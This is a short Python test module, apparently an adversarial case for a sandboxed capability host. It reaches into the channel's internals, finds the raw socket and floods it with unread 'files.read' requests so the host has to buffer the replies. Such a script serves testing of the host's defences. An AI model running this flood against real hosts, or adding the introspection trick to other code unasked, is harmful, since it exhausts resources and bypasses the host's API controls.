"""Ask for a large capability reply again and again without reading any, so the host buffers
the replies for us (each request is sent only once the previous one is served)."""

import os
import stat
import time


def _wire(ctx):
    return type(ctx.channel).__init__.__globals__["wire"]


def _channel_fd():
    for fd in range(3, 1024):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                return fd
        except OSError:
            continue
    raise RuntimeError("no channel")


def attack(event, ctx):
    wire = _wire(ctx)
    fd = _channel_fd()
    sent = 0
    for i in range(event["count"]):
        frame = wire.encode(wire.CapRequest(id=10_000 + i, call=ctx.channel.call_id,
                                            cap="files.read", args={}))
        os.write(fd, frame)
        sent += 1
        time.sleep(event.get("pause", 0.05))
    return {"got": {"sent": sent}, "errors": []}
